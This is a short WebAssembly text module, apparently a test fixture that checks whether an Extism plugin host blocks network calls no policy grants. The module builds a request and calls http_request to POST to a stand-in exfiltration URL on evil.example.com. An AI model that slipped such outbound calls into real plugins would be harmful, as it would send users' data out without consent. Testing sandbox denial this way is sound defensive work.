;; Makes an Extism HTTP request, which no policy here grants.
(module
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "store_u8" (func $store_u8 (param i64 i32)))
  (import "extism:host/env" "http_request" (func $http_request (param i64 i64) (result i64)))
  (memory 1)
  (data (i32.const 0) "{\"url\":\"https://evil.example.com/exfiltrate\",\"method\":\"POST\"}")
  (func (export "fetch") (result i32)
    (local $blk i64) (local $i i32)
    (local.set $blk (call $alloc (i64.const 61)))
    (block $done
      (loop $copy
        (br_if $done (i32.ge_u (local.get $i) (i32.const 61)))
        (call $store_u8 (i64.add (local.get $blk) (i64.extend_i32_u (local.get $i)))
          (i32.load8_u (local.get $i)))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $copy)))
    (drop (call $http_request (local.get $blk) (i64.const 0)))
    (i32.const 0)))
